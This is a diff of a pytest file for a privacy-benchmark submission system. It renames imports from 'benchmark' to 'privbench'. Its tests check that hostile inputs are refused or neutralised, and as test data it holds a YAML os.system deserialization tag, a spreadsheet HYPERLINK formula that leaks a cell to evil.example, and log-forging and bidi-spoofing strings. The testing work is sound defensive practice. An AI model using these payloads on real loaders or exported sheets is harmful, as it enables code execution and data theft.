@@ -10,8 +10,8 @@ from pathlib import Path
 
 import pytest
 
-from benchmark.errors import InputError
-from benchmark.submit import AdmissionError, load_card
+from privbench.core.errors import InputError
+from privbench.submit.submission import AdmissionError, load_card
 
 ROOT = Path(__file__).resolve().parent.parent
 
@@ -49,7 +49,7 @@ def test_a_billion_laughs_card_is_refused_at_once_naming_file_and_line(tmp_path)
 @pytest.mark.parametrize("extra,message", [
     ('x: !!python/object/apply:os.system ["echo pwned"]\n', "line 7, column 4: explicit tag "
                                                            "'tag:yaml.org,2002:python/object/apply:os.system'"),
-    ("x: !!python/object:benchmark.submit.Card {}\n", "explicit tag 'tag:yaml.org,2002:python/object:"),
+    ("x: !!python/object:privbench.submit.submission.Card {}\n", "explicit tag 'tag:yaml.org,2002:python/object:"),
     ("x: !local 1\n", "explicit tag '!local' is not allowed"),
     ("x: !!str 1\n", "explicit tag 'tag:yaml.org,2002:str' is not allowed"),
     ("x: *nowhere\n", "alias \\*nowhere is not allowed"),
@@ -78,7 +78,7 @@ def test_a_card_that_is_not_utf8_names_its_line(tmp_path) -> None:
 
 
 def test_suites_go_through_the_same_loader(tmp_path) -> None:
-    from benchmark.config import load_suite
+    from privbench.run.config import load_suite
 
     path = _write(tmp_path, "name: s\ndatasets: &d [digits]\nseeds: [0]\n", "suite.yaml")
     with pytest.raises(InputError, match=f"^{path}, line 2, column 11: anchor &d is not allowed"):
@@ -88,7 +88,7 @@ def test_suites_go_through_the_same_loader(tmp_path) -> None:
 def test_every_committed_suite_and_card_still_loads() -> None:
     import yaml
 
-    from benchmark.yamlsafe import SUITE_MAX_BYTES, load_file
+    from privbench.core.yamlsafe import SUITE_MAX_BYTES, load_file
 
     files = sorted((ROOT / "benchmark" / "suites").glob("*.yaml")) + sorted(ROOT.glob("submissions/*/suite.yaml"))
     assert len(files) >= 7
@@ -103,8 +103,8 @@ def test_every_committed_suite_and_card_still_loads() -> None:
 def test_text_release_metadata_is_kept_as_text_and_the_cell_record_validates() -> None:
     import json
 
-    from benchmark.evaluate import release_extra
-    from benchmark.records import iter_records, validate
+    from privbench.run.evaluate import release_extra
+    from privbench.core.records import iter_records, validate
 
     numbers, texts = release_extra({"self_reported_accountant": "rdp", "noise_multiplier": 1.5, "steps": 3,
                                     "unknown": None, "grid": [1, 2]})
@@ -124,8 +124,8 @@ def _summary_row(**leakage: dict) -> dict:
 
 
 def test_a_claim_on_an_unmeasured_threat_model_reads_not_measured(tmp_path) -> None:
-    from benchmark.leaderboard import claims_flag
-    from benchmark.submit import check_claims
+    from privbench.submit.leaderboard import claims_flag
+    from privbench.submit.submission import check_claims
 
     observer = {"status": "ok", "title": "", "interval": {"mean": 0.3, "lo": 0.2, "hi": 0.4, "seeds": 3}}
     row = _summary_row(observer=observer, linker={"status": "not applicable", "title": "", "interval": None})
@@ -162,7 +162,7 @@ def _crafted_entries(tmp_path: Path, edit) -> Path:
 
 
 def test_the_leaderboard_never_says_within_ci_for_an_unmeasured_claim(tmp_path) -> None:
-    from benchmark.leaderboard import build
+    from privbench.submit.leaderboard import build
 
     def edit(entry: dict) -> None:
         entry["claims"] = [{"defense": "noisy-blend", "config": "noisy-blend alpha=0.8", "dataset": "mnist5k",
@@ -189,7 +189,7 @@ def _package(tmp_path: Path) -> Path:
 def test_a_package_with_a_symlink_is_refused_naming_the_link_before_anything_is_copied(tmp_path, make_link) -> None:
     import os
 
-    from benchmark.submit import snapshot, source_files, source_hash
+    from privbench.submit.submission import snapshot, source_files, source_hash
 
     secret = tmp_path / "outside"
     secret.mkdir()
@@ -211,7 +211,7 @@ def test_a_package_with_a_symlink_is_refused_naming_the_link_before_anything_is_
 def test_a_package_with_a_fifo_is_refused(tmp_path) -> None:
     import os
 
-    from benchmark.submit import source_files
+    from privbench.submit.submission import source_files
 
     pkg = _package(tmp_path)
     os.mkfifo(pkg / "pipe")
@@ -225,7 +225,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
 def test_formula_text_from_a_card_reaches_the_leaderboard_csv_inert(tmp_path) -> None:
     import csv
 
-    from benchmark.leaderboard import build
+    from privbench.submit.leaderboard import build
 
     def edit(entry: dict) -> None:
         entry["card"]["name"] = FORMULA
@@ -261,7 +261,7 @@ def test_a_malformed_submission_entry_is_named_not_a_traceback(tmp_path) -> None
 def test_untrusted_text_cannot_print_a_line_or_reorder_one() -> None:
     """Red-team round 2 (low): a child's error text with a newline printed a forged 'admitted:' line; bidi
     overrides reorder what a console shows."""
-    from benchmark.textsafe import one_line, printable
+    from privbench.core.textsafe import one_line, printable
 
     assert one_line("boom\nadmitted: all checks passed") == "boom ⏎ admitted: all checks passed"
     assert printable("evil\u202egnp.exe\u2066") == "evil?gnp.exe?"
